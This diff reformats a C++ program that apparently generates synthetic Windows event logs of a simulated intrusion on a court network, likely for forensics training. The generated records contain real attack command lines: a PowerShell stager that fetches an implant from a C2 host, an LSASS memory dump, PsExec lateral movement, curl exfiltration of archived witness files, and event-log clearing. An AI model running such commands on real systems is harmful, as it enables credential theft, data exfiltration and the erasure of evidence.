@@ -4,8 +4,8 @@
 // background and story events are made, put in time order, and written.
 
 #include <algorithm>
-#include <filesystem>
 #include <cstring>
+#include <filesystem>
 #include <memory>
 #include <optional>
 
@@ -107,16 +107,18 @@ constexpr Image kChrome = {"C:\\Program Files\\Google\\Chrome\\Application\\chro
                            "Google Chrome", "Google LLC", "chrome.exe"};
 constexpr Image kAcrobat = {"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                             "Adobe Acrobat", "Adobe Systems Incorporated", "Acrobat.exe"};
-constexpr Image kTeams = {"C:\\Program Files\\WindowsApps\\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\\ms-teams.exe",
-                          "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"};
+constexpr Image kTeams = {
+    "C:\\Program Files\\WindowsApps\\MSTeams_24243.1309.3132.617_x64__8wekyb3d8bbwe\\ms-teams.exe",
+    "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"};
 constexpr Image kNotepad = {"C:\\Windows\\System32\\notepad.exe", "Notepad",
                             "Microsoft Corporation", "NOTEPAD.EXE"};
 constexpr Image kCmd = {"C:\\Windows\\System32\\cmd.exe", "Windows Command Processor",
                         "Microsoft Corporation", "Cmd.Exe"};
 constexpr Image kPowerShellExe = {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                               "Windows PowerShell", "Microsoft Corporation", "PowerShell.EXE"};
-constexpr Image kGpupdate = {"C:\\Windows\\System32\\gpupdate.exe", "Microsoft® Windows Group Policy Update",
-                             "Microsoft Corporation", "gpupdate.exe"};
+                                  "Windows PowerShell", "Microsoft Corporation", "PowerShell.EXE"};
+constexpr Image kGpupdate = {"C:\\Windows\\System32\\gpupdate.exe",
+                             "Microsoft® Windows Group Policy Update", "Microsoft Corporation",
+                             "gpupdate.exe"};
 constexpr Image kMpCmdRun = {"C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                              "Microsoft Malware Protection Command Line Utility",
                              "Microsoft Corporation", "MpCmdRun.exe"};
@@ -129,10 +131,12 @@ constexpr Image kWhoami = {"C:\\Windows\\System32\\whoami.exe",
                            "whoami.exe"};
 constexpr Image kNet = {"C:\\Windows\\System32\\net.exe", "Net Command", "Microsoft Corporation",
                         "net.exe"};
-constexpr Image kNltest = {"C:\\Windows\\System32\\nltest.exe", "Microsoft® Logon Server Test Utility",
-                           "Microsoft Corporation", "nltestrk.exe"};
-constexpr Image kRundll32 = {"C:\\Windows\\System32\\rundll32.exe", "Windows host process (Rundll32)",
-                             "Microsoft Corporation", "RUNDLL32.EXE"};
+constexpr Image kNltest = {"C:\\Windows\\System32\\nltest.exe",
+                           "Microsoft® Logon Server Test Utility", "Microsoft Corporation",
+                           "nltestrk.exe"};
+constexpr Image kRundll32 = {"C:\\Windows\\System32\\rundll32.exe",
+                             "Windows host process (Rundll32)", "Microsoft Corporation",
+                             "RUNDLL32.EXE"};
 constexpr Image kPsExec = {"C:\\ProgramData\\Temp\\PsExec64.exe", "Execute processes remotely",
                            "Sysinternals - www.sysinternals.com", "psexec.c"};
 constexpr Image kPsExeSvc = {"C:\\Windows\\PSEXESVC.exe", "PsExec Service",
@@ -356,7 +360,8 @@ class HostLog {
     d.guid("TargetProcessGUID", target_guid).u32("TargetProcessId", target_pid);
     d.s("TargetImage", kLsass.path).s("GrantedAccess", access);
     d.s("CallTrace",
-        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000002A1F7C)");
+        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
+        "UNKNOWN(00000000002A1F7C)");
     d.s("SourceUser", qualified(source.user)).s("TargetUser", "NT AUTHORITY\\SYSTEM");
   }
 
@@ -420,7 +425,8 @@ class HostLog {
     d.s("ObjectType", "File").s("IpAddress", ip).u32("IpPort", rng_.between(49152, 65000));
     d.s("ShareName", share).s("ShareLocalPath", local).s("RelativeTargetName", relative);
     d.hex32("AccessMask", read_file ? 0x120089 : 0x100081);
-    d.s("AccessList", read_file ? "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4419\r\n\t\t\t\t%%4423\r\n\t\t\t\t"
+    d.s("AccessList", read_file ? "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%"
+                                  "4419\r\n\t\t\t\t%%4423\r\n\t\t\t\t"
                                 : "%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4423\r\n\t\t\t\t");
     d.s("AccessReason", "-");
   }
@@ -554,7 +560,8 @@ Timestamp plus(Timestamp t, int64_t ticks) { return Timestamp{t.ticks + ticks}; 
 
 Timestamp random_between(Rng& rng, Timestamp from, Timestamp to) {
   const int64_t span = std::max<int64_t>(1, (to.ticks - from.ticks) / kSecond);
-  return Timestamp{from.ticks + static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * kSecond +
+  return Timestamp{from.ticks +
+                   static_cast<int64_t>(rng.next() % static_cast<uint64_t>(span)) * kSecond +
                    rng.below(1000) * 10000};
 }
 
@@ -621,16 +628,19 @@ void workstation_day(HostLog& log, const World& w, int ws, int day) {
   }
   for (uint32_t i = 0; i < scale; ++i) {
     const Timestamp t = random_between(rng, day_start(day), day_start(day + 1));
-    log.start(t, log.services(), kSvchost, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
-              system_account(), "System");
+    log.start(t, log.services(), kSvchost,
+              "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", system_account(),
+              "System");
     log.start(plus(t, 30 * kSecond), log.services(), kMpCmdRun,
               "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -SignatureUpdate -ScheduleJob",
               system_account(), "System");
   }
   if (day == 19) {  // a browser update installs its service on every workstation
-    log.service_installed(plus(day_start(day), 12 * kHour + rng.below(3600) * kSecond),
-                          system_account(), "MicrosoftEdgeElevationService",
-                          "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\130.0.2849.56\\elevation_service.exe\"");
+    log.service_installed(
+        plus(day_start(day), 12 * kHour + rng.below(3600) * kSecond), system_account(),
+        "MicrosoftEdgeElevationService",
+        "\"C:\\Program Files "
+        "(x86)\\Microsoft\\Edge\\Application\\130.0.2849.56\\elevation_service.exe\"");
   }
   int person = -1;
   for (size_t p = 0; p < w.people.size(); ++p) {
@@ -644,15 +654,15 @@ void workstation_day(HostLog& log, const World& w, int ws, int day) {
   log.logon(wd->arrive, me, 2, "127.0.0.1", "", false);
   const Process userinit = log.start(plus(wd->arrive, 2 * kSecond), log.services(), kUserinit,
                                      "C:\\Windows\\system32\\userinit.exe", me);
-  const Process explorer =
-      log.start(plus(wd->arrive, 4 * kSecond), userinit, kExplorer, "C:\\Windows\\Explorer.EXE", me);
+  const Process explorer = log.start(plus(wd->arrive, 4 * kSecond), userinit, kExplorer,
+                                     "C:\\Windows\\Explorer.EXE", me);
   log.script_block(plus(wd->arrive, 20 * kSecond), me,
                    "# Court logon script: map the department drives\r\n"
                    "New-PSDrive -Name H -PSProvider FileSystem -Root \\\\fs01.court.local\\home\\" +
                        p.account + " -Persist -ErrorAction SilentlyContinue | Out-Null",
                    false);
-  const Process outlook =
-      log.start(plus(wd->arrive, 40 * kSecond), explorer, kOutlook, std::string("\"") + kOutlook.path + "\" ", me);
+  const Process outlook = log.start(plus(wd->arrive, 40 * kSecond), explorer, kOutlook,
+                                    std::string("\"") + kOutlook.path + "\" ", me);
   (void)outlook;
   const auto folders = allowed_folders(p, w.cases.size());
   const uint32_t apps = 6 * scale;
@@ -664,7 +674,8 @@ void workstation_day(HostLog& log, const World& w, int ws, int day) {
     switch (which) {
       case 0:
       case 1: {
-        const Process chrome = log.start(t, explorer, kChrome, std::string("\"") + kChrome.path + "\" ", me);
+        const Process chrome =
+            log.start(t, explorer, kChrome, std::string("\"") + kChrome.path + "\" ", me);
         for (uint32_t k = 0; k < 3; ++k) {
           log.connect(plus(t, (k + 1) * 7 * kSecond), chrome, w.proxy.ip, 3128, w.proxy.fqdn);
         }
@@ -707,7 +718,8 @@ void workstation_day(HostLog& log, const World& w, int ws, int day) {
         break;
       default:
         log.start(t, explorer, rng.percent(50) ? kTeams : kNotepad,
-                  rng.percent(50) ? std::string("\"") + kTeams.path + "\"" : "notepad.exe " + doc + ".txt",
+                  rng.percent(50) ? std::string("\"") + kTeams.path + "\""
+                                  : "notepad.exe " + doc + ".txt",
                   me);
     }
   }
@@ -728,7 +740,8 @@ void dc_day(HostLog& log, const World& w, int day) {
     const Person& person = w.people[p];
     const Host& ws = w.workstations[static_cast<size_t>(person.workstation)];
     for (uint32_t k = 0; k < 2 * w.scale; ++k) {
-      const Timestamp t = k == 0 ? plus(wd->arrive, kSecond) : random_between(rng, wd->arrive, wd->leave);
+      const Timestamp t =
+          k == 0 ? plus(wd->arrive, kSecond) : random_between(rng, wd->arrive, wd->leave);
       EventSpec& e = log.security(4769, 0, 14337, t);
       Data d(e);
       d.s("TargetUserName", person.account + "@COURT.LOCAL").s("TargetDomainName", "COURT.LOCAL");
@@ -752,9 +765,9 @@ void dc_day(HostLog& log, const World& w, int day) {
     const Timestamp t = random_between(rng, wd->arrive, wd->leave);
     const Account a = log.user(person, 0x300000 + (rng.next() & 0xFFFFFF));
     log.logon(t, a, 10, ws.ip, ws.name, false);
-    const Process mmc = log.start(plus(t, 30 * kSecond), log.services(), kMmc,
-                                  "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"",
-                                  a, "High");
+    const Process mmc = log.start(
+        plus(t, 30 * kSecond), log.services(), kMmc,
+        "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\"", a, "High");
     (void)mmc;
     log.logoff(plus(t, 25 * kMinute), a, 10);
   }
@@ -787,7 +800,8 @@ void fs_day(HostLog& log, const World& w, int day) {
     // correlation must never see background).
     const auto folders = allowed_folders(person, w.cases.size());
     if (!folders.empty()) {
-      log.share_session(plus(first, 2 * kSecond), net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases");
+      log.share_session(plus(first, 2 * kSecond), net, ws.ip, "\\\\*\\cases",
+                        "\\??\\D:\\Shares\\cases");
       const uint32_t reads = rng.between(2, 7);
       for (uint32_t k = 0; k < reads; ++k) {
         const auto& [c, f] = folders[rng.below(static_cast<uint32_t>(folders.size()))];
@@ -807,22 +821,23 @@ void fs_day(HostLog& log, const World& w, int day) {
 void rds_day(HostLog& log, const World& w, int day, FileResult& result) {
   Rng& rng = log.rng();
   for (uint32_t i = 0; i < 2 * w.scale; ++i) {
-    log.service_state(random_between(rng, day_start(day), day_start(day + 1)), "Remote Desktop Services",
-                      "running");
+    log.service_state(random_between(rng, day_start(day), day_start(day + 1)),
+                      "Remote Desktop Services", "running");
   }
   for (size_t p = 0; p < w.people.size(); ++p) {
     const Person& person = w.people[p];
     if (!person.remote || is_weekend(day) || !rng.percent(40)) continue;
     Timestamp t = plus(day_start(day), 18 * kHour + rng.below(3 * 3600) * kSecond);
     if (rng.percent(12)) {  // a mistyped password first
-      log.failed_logon(t, person.account, person.home_ip, "LAPTOP-" + person.account.substr(2, 4), false);
+      log.failed_logon(t, person.account, person.home_ip, "LAPTOP-" + person.account.substr(2, 4),
+                       false);
       result.failures[{day, person.home_ip}][person.account] += 1;
       t = plus(t, 9 * kSecond);
     }
     const Account a = log.user(person, 0x500000 + (rng.next() & 0xFFFFFF));
     log.logon(t, a, 10, person.home_ip, "", false);
-    const Process explorer = log.start(plus(t, 5 * kSecond), log.services(), kExplorer,
-                                       "C:\\Windows\\Explorer.EXE", a);
+    const Process explorer =
+        log.start(plus(t, 5 * kSecond), log.services(), kExplorer, "C:\\Windows\\Explorer.EXE", a);
     for (uint32_t k = 0; k < w.scale; ++k) {
       log.start(plus(t, (60 + k * 120) * kSecond), explorer, kWord,
                 std::string("\"") + kWord.path + "\" /n \"C:\\Users\\" + person.account +
@@ -836,7 +851,7 @@ void rds_day(HostLog& log, const World& w, int day, FileResult& result) {
 // --- Internet attacks on RDS01 ---------------------------------------------------------
 
 constexpr std::array<const char*, 6> kRdpGuesses = {"administrator", "admin", "Administrator",
-                                                    "user", "test", "scanner"};
+                                                    "user",          "test",  "scanner"};
 
 void rds_attacks(HostLog& log, const World& w, int day, FileResult& result) {
   for (const Attack& a : w.attacks) {
@@ -844,7 +859,8 @@ void rds_attacks(HostLog& log, const World& w, int day, FileResult& result) {
     if (a.kind != AttackKind::kRdpBruteForce && a.kind != AttackKind::kRdpSpray) continue;
     Rng rng(a.seed);
     Timestamp t = a.start;
-    const std::string workstation = rng.percent(50) ? "kali" : "WIN-" + std::to_string(rng.between(1000, 9999));
+    const std::string workstation =
+        rng.percent(50) ? "kali" : "WIN-" + std::to_string(rng.between(1000, 9999));
     if (a.kind == AttackKind::kRdpBruteForce) {
       const std::string account = rng.pick(kRdpGuesses);
       for (uint32_t i = 0; i < a.count; ++i) {
@@ -876,10 +892,12 @@ void rds_attacks(HostLog& log, const World& w, int day, FileResult& result) {
 
 std::string encoded_stager(const World& w) {
   // The base64 of the UTF-16LE script that downloads the implant.
-  const std::string script = "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
-                             "$w.DownloadFile('https://" + w.intrusion.c2_host +
-                             "/api/v2/update','" + "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');"
-                             "Start-Process \"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"";
+  const std::string script =
+      "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
+      "$w.DownloadFile('https://" +
+      w.intrusion.c2_host + "/api/v2/update','" +
+      "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');"
+      "Start-Process \"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"";
   std::string utf16;
   for (char c : script) {
     utf16 += c;
@@ -890,7 +908,8 @@ std::string encoded_stager(const World& w) {
   std::string out;
   size_t i = 0;
   for (; i + 2 < utf16.size(); i += 3) {
-    const uint32_t v = (static_cast<uint8_t>(utf16[i]) << 16) | (static_cast<uint8_t>(utf16[i + 1]) << 8) |
+    const uint32_t v = (static_cast<uint8_t>(utf16[i]) << 16) |
+                       (static_cast<uint8_t>(utf16[i + 1]) << 8) |
                        static_cast<uint8_t>(utf16[i + 2]);
     out += kAlphabet[(v >> 18) & 63];
     out += kAlphabet[(v >> 12) & 63];
@@ -939,25 +958,31 @@ void intrusion(HostLog& log, const World& w, int index) {
     const Process word = log.start(
         t, outlook, kWord,
         std::string("\"") + kWord.path +
-            "\" /n \"C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3K8ZP1M\\Request_protective_measures_2024-017.docm\" /o \"\"",
+            "\" /n "
+            "\"C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
+            "Outlook\\Q3K8ZP1M\\Request_protective_measures_2024-017.docm\" /o \"\"",
         keller);
     t = plus(t, 38 * kSecond);
-    const Process cmd = log.start(t, word, kCmd,
-                                  "C:\\Windows\\system32\\cmd.exe /c start /b powershell.exe -nop -w hidden -enc " +
-                                      encoded_stager(w),
-                                  keller);
+    const Process cmd =
+        log.start(t, word, kCmd,
+                  "C:\\Windows\\system32\\cmd.exe /c start /b powershell.exe -nop -w hidden -enc " +
+                      encoded_stager(w),
+                  keller);
     t = plus(t, kSecond);
-    const Process ps = log.start(t, cmd, kPowerShellExe, "powershell.exe  -nop -w hidden -enc " + encoded_stager(w),
-                                 keller);
+    const Process ps = log.start(
+        t, cmd, kPowerShellExe, "powershell.exe  -nop -w hidden -enc " + encoded_stager(w), keller);
     log.script_block(plus(t, kSecond), keller,
                      "$w=New-Object Net.WebClient;$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();"
-                     "$w.DownloadFile('https://" + in.c2_host + "/api/v2/update','" +
-                         "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');Start-Process \"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"",
+                     "$w.DownloadFile('https://" +
+                         in.c2_host + "/api/v2/update','" +
+                         "$env:APPDATA\\Microsoft\\Teams\\tmsync.exe');Start-Process "
+                         "\"$env:APPDATA\\Microsoft\\Teams\\tmsync.exe\"",
                      true);
     log.connect(plus(t, 2 * kSecond), ps, w.proxy.ip, 3128, w.proxy.fqdn);
     log.file_created(plus(t, 6 * kSecond), ps, kImplant.path);
     t = plus(t, 8 * kSecond);
-    const Process implant = log.start(t, ps, kImplant, std::string("\"") + kImplant.path + "\"", keller);
+    const Process implant =
+        log.start(t, ps, kImplant, std::string("\"") + kImplant.path + "\"", keller);
     // Calls home through the proxy until it is stopped.
     for (Timestamp b : in.beacons) log.connect(b, implant, w.proxy.ip, 3128, w.proxy.fqdn);
     // Discovery.
@@ -970,8 +995,8 @@ void intrusion(HostLog& log, const World& w, int index) {
         {&kNltest, "nltest /domain_trusts /all_trusts"},
     }};
     for (const auto& [image, command] : discovery) {
-      const Process shell = log.start(t, implant, kCmd, std::string("C:\\Windows\\system32\\cmd.exe /c ") + command,
-                                      keller);
+      const Process shell = log.start(
+          t, implant, kCmd, std::string("C:\\Windows\\system32\\cmd.exe /c ") + command, keller);
       log.start(plus(t, kSecond / 5), shell, *image, command, keller);
       t = plus(t, 70 * kSecond);  // ground_truth.json's step times assume this spacing
     }
@@ -984,10 +1009,13 @@ void intrusion(HostLog& log, const World& w, int index) {
     lsass.guid = log.guid();
     log.process_access(t, implant, lsass.pid, lsass.guid, "0x1010");
     t = plus(t, 75 * kSecond);
-    const Process shell = log.start(t, implant, kCmd, "C:\\Windows\\system32\\cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"",
-                                    keller_high, "High");
+    const Process shell =
+        log.start(t, implant, kCmd,
+                  "C:\\Windows\\system32\\cmd.exe /c tasklist /fi \"imagename eq lsass.exe\"",
+                  keller_high, "High");
     t = plus(t, 20 * kSecond);
-    std::string dump_cmd = "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ";
+    std::string dump_cmd =
+        "C:\\Windows\\System32\\rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump ";
     add_dec(dump_cmd, lsass.pid);
     dump_cmd += " C:\\ProgramData\\Temp\\dbg.dmp full";
     const Process dumper = log.start(t, shell, kRundll32, dump_cmd, keller_high, "High");
@@ -1000,38 +1028,43 @@ void intrusion(HostLog& log, const World& w, int index) {
       Data d(e);
       d.sid("SubjectUserSid", keller.sid).s("SubjectUserName", keller.name);
       d.s("SubjectDomainName", keller.domain).hex64("SubjectLogonId", keller.logon_id);
-      d.guid("LogonGuid", Guid{}).s("TargetUserName", admin.account).s("TargetDomainName", w.netbios);
+      d.guid("LogonGuid", Guid{})
+          .s("TargetUserName", admin.account)
+          .s("TargetDomainName", w.netbios);
       d.guid("TargetLogonGuid", Guid{}).s("TargetServerName", w.fs.fqdn).s("TargetInfo", w.fs.fqdn);
       d.hex64("ProcessId", 0x4).s("ProcessName", "").s("IpAddress", w.fs.ip).s("IpPort", "445");
     }
     for (const Host* target : {&w.fs, &w.dc}) {
-      const Process psexec = log.start(
-          t, implant, kPsExec,
-          "C:\\ProgramData\\Temp\\PsExec64.exe \\\\" + target->fqdn +
-              " -accepteula -u COURT\\adm.schmidt -p ******** -s cmd.exe",
-          keller_high, "High");
+      const Process psexec =
+          log.start(t, implant, kPsExec,
+                    "C:\\ProgramData\\Temp\\PsExec64.exe \\\\" + target->fqdn +
+                        " -accepteula -u COURT\\adm.schmidt -p ******** -s cmd.exe",
+                    keller_high, "High");
       log.connect(plus(t, kSecond), psexec, target->ip, 445, target->fqdn);
       t = plus(t, 4 * kMinute);
     }
     // Staging: 7-Zip reads the witness folder over the share (FS01 logs each file).
     t = in.staging;
     const Case& kase = w.cases[0];
-    const Process seven = log.start(
-        t, implant, kSevenZip,
-        "\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mhe=on -p" + in.archive_password +
-            " C:\\ProgramData\\Temp\\upd_cache.7z \\\\fs01.court.local\\cases\\" + kase.id + "\\witnesses\\*",
-        keller_high, "High");
+    const Process seven =
+        log.start(t, implant, kSevenZip,
+                  "\"C:\\Program Files\\7-Zip\\7z.exe\" a -t7z -mhe=on -p" + in.archive_password +
+                      " C:\\ProgramData\\Temp\\upd_cache.7z \\\\fs01.court.local\\cases\\" +
+                      kase.id + "\\witnesses\\*",
+                  keller_high, "High");
     log.connect(plus(t, kSecond), seven, w.fs.ip, 445, w.fs.fqdn);
     log.file_created(plus(t, 90 * kSecond), seven, "C:\\ProgramData\\Temp\\upd_cache.7z");
     // Exfiltration through the proxy.
     t = in.exfiltration;
     const Process curl = log.start(t, implant, kCurl,
-                                   "curl.exe -s -k -x http://proxy01.court.local:3128 -T C:\\ProgramData\\Temp\\upd_cache.7z https://" +
+                                   "curl.exe -s -k -x http://proxy01.court.local:3128 -T "
+                                   "C:\\ProgramData\\Temp\\upd_cache.7z https://" +
                                        in.exfil_host + "/u/7f3a9c2e/upd_cache.7z",
                                    keller_high, "High");
     log.connect(plus(t, kSecond), curl, w.proxy.ip, 3128, w.proxy.fqdn);
     log.start(plus(t, 9 * kMinute), implant, kCmd,
-              "C:\\Windows\\system32\\cmd.exe /c del /f /q C:\\ProgramData\\Temp\\upd_cache.7z C:\\ProgramData\\Temp\\dbg.dmp",
+              "C:\\Windows\\system32\\cmd.exe /c del /f /q C:\\ProgramData\\Temp\\upd_cache.7z "
+              "C:\\ProgramData\\Temp\\dbg.dmp",
               keller_high, "High");
     // Clearing the workstation's Security log last.
     t = plus(in.clearing, 6 * kMinute);
@@ -1055,14 +1088,16 @@ void intrusion(HostLog& log, const World& w, int index) {
   if (fs) {
     log.start(plus(t, 40 * kSecond), shell, kNet, "net share", stolen, "High");
   } else {
-    log.start(plus(t, 40 * kSecond), shell, kNet, "net group \"Domain Admins\" /domain", stolen, "High");
+    log.start(plus(t, 40 * kSecond), shell, kNet, "net group \"Domain Admins\" /domain", stolen,
+              "High");
   }
   if (fs) {
     // Browsing the case share: 2025-003's witnesses, two statements opened.
     Timestamp c = in.collection;
     const Account net = stolen;
     log.share_session(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases");
-    log.share_access(plus(c, kSecond), net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", "", false);
+    log.share_access(plus(c, kSecond), net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", "",
+                     false);
     c = plus(c, 20 * kSecond);
     for (const char* id : {"2025-003", "2024-017"}) {
       log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases",
@@ -1071,8 +1106,9 @@ void intrusion(HostLog& log, const World& w, int index) {
     }
     for (const auto& [case_index, doc] : in.accessed_docs) {
       const Case& kase = w.cases[static_cast<size_t>(case_index)];
-      const std::string rel = share_relative(kase, Folder::kWitnesses,
-                                             kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)]);
+      const std::string rel = share_relative(
+          kase, Folder::kWitnesses,
+          kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)]);
       log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
       log.object_read(plus(c, kSecond / 20), net, "D:\\Shares\\cases\\" + rel);
       c = plus(c, (50 + rng.below(60)) * kSecond);
@@ -1081,7 +1117,8 @@ void intrusion(HostLog& log, const World& w, int index) {
     c = plus(in.staging, 2 * kSecond);
     for (const auto& [case_index, doc] : in.exfiltrated_docs) {
       const Case& kase = w.cases[static_cast<size_t>(case_index)];
-      const Document& d = kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)];
+      const Document& d =
+          kase.documents[static_cast<int>(Folder::kWitnesses)][static_cast<size_t>(doc)];
       const std::string rel = share_relative(kase, Folder::kWitnesses, d);
       log.share_access(c, net, ws.ip, "\\\\*\\cases", "\\??\\D:\\Shares\\cases", rel, true);
       log.object_read(plus(c, kSecond / 20), net, "D:\\Shares\\cases\\" + rel);
@@ -1092,9 +1129,10 @@ void intrusion(HostLog& log, const World& w, int index) {
   t = plus(in.clearing, fs ? 0 : 2 * kMinute);
   const Process svc2 = log.start(t, log.services(), kPsExeSvc, "C:\\Windows\\PSEXESVC.exe",
                                  system_account(), "System");
-  const Process shell2 = log.start(plus(t, kSecond), svc2, kCmd,
-                                   "cmd.exe /c \"wevtutil.exe cl System & wevtutil.exe cl Security\"",
-                                   stolen, "High", "C:\\Windows\\system32\\");
+  const Process shell2 =
+      log.start(plus(t, kSecond), svc2, kCmd,
+                "cmd.exe /c \"wevtutil.exe cl System & wevtutil.exe cl Security\"", stolen, "High",
+                "C:\\Windows\\system32\\");
   log.start(plus(t, 2 * kSecond), shell2, kWevtutil, "wevtutil.exe cl System", stolen, "High");
   log.system_log_cleared(plus(t, 3 * kSecond), stolen);
   log.start(plus(t, 4 * kSecond), shell2, kWevtutil, "wevtutil.exe cl Security", stolen, "High");
@@ -1135,7 +1173,8 @@ FileResult run_windows_job(const World& w, const FileJob& job, const std::string
   std::array<std::unique_ptr<evtx::EvtxWriter>, kChannels> writers;
   const fs::path folder = fs::path(out_dir) / "windows" / host.name;
   for (int c = 0; c < kChannels; ++c) {
-    auto writer = evtx::EvtxWriter::create((folder / kChannelFiles[static_cast<size_t>(c)]).string());
+    auto writer =
+        evtx::EvtxWriter::create((folder / kChannelFiles[static_cast<size_t>(c)]).string());
     if (!writer.ok()) {
       result.error = writer.error().to_string();
       return result;
